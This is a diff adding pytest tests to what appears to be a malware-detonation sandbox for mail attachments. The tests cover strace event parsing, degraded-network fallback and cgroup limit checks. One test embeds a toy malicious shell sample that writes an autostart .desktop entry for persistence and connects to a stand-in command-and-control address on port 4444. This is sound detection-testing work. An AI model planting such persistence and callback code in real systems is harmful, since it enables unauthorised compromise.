@@ -24,6 +24,7 @@ from mailvm.guest import launcher as L
 from mailvm.guest import monitor as M
 from mailvm.guest import wine as W
 from mailvm.guest.detonate import EventLog, detonate, parse_options
+from mailvm.guest import sandbox as S
 from mailvm.guest.sandbox import Limits, sandbox_tools
 
 # ------------------------------------------------------------------ helpers
@@ -169,6 +170,17 @@ def test_events_start_at_the_init_exec_and_exclude_infrastructure():
     assert evs[2]["path"] == "/work/out.txt" and evs[2]["path2"] == "/home/user/.bashrc"
     assert evs[3]["dst"] == "203.0.113.10:4444" and "err" not in evs[3]
     assert evs[4]["code"] == 3
+
+
+def test_sample_begins_with_the_inits_fork_not_its_exec():
+    """The idle clock waits for this: under TCG the init's own start-up takes seconds."""
+    p = M.StraceParser()
+    b = M.EventBuilder("mailvm-sandbox-init", 100.0, cwd="/work")
+    for line in [INIT, '1 100.1 openat(AT_FDCWD</work>, "/usr/lib/python3.11/os.py", O_RDONLY) = 3</x>']:
+        b.feed(p.feed(line))
+    assert b.started and not b.sample_began and b.alive_sample_pids() == []
+    b.feed(p.feed("1 100.2 clone(child_stack=NULL, flags=SIGCHLD) = 2 /* 12 in strace's PID NS */"))
+    assert b.sample_began and b.alive_sample_pids() == [12]
 
 
 def test_events_for_images_sleeps_injection_memfd_and_threads():
@@ -370,6 +382,55 @@ def test_persistence_and_raw_ip_c2_is_malicious(run, persist):
     assert "203.0.113.10:4444" in text
     assert '"HELO bot"' in text  # fakenet logged the first bytes of the connection
     assert r["launcher"] == "sh" and r["stopped"] == "exited_idle"
+
+
+@pytest.mark.sandbox
+@pytest.mark.skipif(SANDBOX_REASON is not None, reason=f"sandbox unavailable: {SANDBOX_REASON}")
+def test_guest_conditions_slow_start_up_and_no_iptables_give_the_same_verdict(run, monkeypatch):
+    """What a TCG guest with a minimal kernel does to the sandbox, reproduced on the host: the
+    sandbox's own start-up takes longer than ``idle_s`` (an init that sleeps before starting
+    the sample) and iptables cannot redirect (fakenet falls back to listeners on common ports).
+    The sample must still be seen in full, and the sandbox event must say what was degraded."""
+    monkeypatch.setattr(S, "INIT_CODE", "import time; time.sleep(1.5)\n" + S.INIT_CODE)
+    monkeypatch.setattr(S, "OPTIONAL_TOOLS", ())  # no iptables-restore
+    script = (b'#!/bin/sh\nmkdir -p "$HOME/.config/autostart"\n'
+              b'printf "[Desktop Entry]\\nExec=/tmp/.u\\n" > "$HOME/.config/autostart/x.desktop"\n'
+              b"python3 -c 'import socket; s=socket.create_connection((\"203.0.113.10\", 4444), 3); "
+              b"s.sendall(b\"HELO bot\"); s.close()'\n")
+    r = run(script, "update.sh", idle_s=0.5)
+    assert r["verdict"] == "malicious", r["findings"]
+    assert {"persistence_autostart", "network_raw_ip"} <= ids(r)
+    assert '"HELO bot"' in log_text(r)  # the fallback listener on 4444 got the connection
+    assert r["stopped"] == "exited_idle"
+    box = next(e for e in r["log"] if e["type"] == "sandbox")
+    assert box["network"] == "iptables-restore not installed"
+    assert [d for d in box["degraded"] if d.startswith("network: iptables-restore not installed")], box
+
+
+def test_cgroups_missing_names_the_limits_no_group_enforces(tmp_path, monkeypatch):
+    monkeypatch.setattr(S.Cgroups, "_own", staticmethod(lambda controller: "/"))
+    v2 = tmp_path / "v2"
+    v2.mkdir()
+    (v2 / "cgroup.controllers").write_text("cpu memory pids\n")
+    (v2 / "cgroup.subtree_control").write_text("")
+    monkeypatch.setattr(S.Cgroups, "ROOT", str(v2))
+    cg = S.Cgroups("mailvm-t", Limits())
+    assert cg.create() == [str(v2 / "mailvm-t" / "cgroup.procs")]
+    assert (v2 / "mailvm-t" / "pids.max").read_text() == "512"
+    assert cg.missing() == ["pids", "memory"]  # the group offers no controller (yet)
+    (v2 / "mailvm-t" / "cgroup.controllers").write_text("pids\n")
+    assert cg.missing() == ["memory"]
+    (v2 / "mailvm-t" / "cgroup.controllers").write_text("memory pids\n")
+    assert cg.missing() == []
+    v1 = tmp_path / "v1"
+    (v1 / "pids").mkdir(parents=True)  # no memory hierarchy mounted
+    monkeypatch.setattr(S.Cgroups, "ROOT", str(v1))
+    cg = S.Cgroups("mailvm-t", Limits())
+    assert cg.create() == [str(v1 / "pids" / "mailvm-t" / "cgroup.procs")]
+    assert cg.missing() == ["memory"]
+    monkeypatch.setattr(S.Cgroups, "ROOT", str(tmp_path / "none"))
+    cg = S.Cgroups("mailvm-t", Limits())
+    assert cg.create() == [] and cg.missing() == ["pids", "memory"]
 
 
 @pytest.mark.sandbox
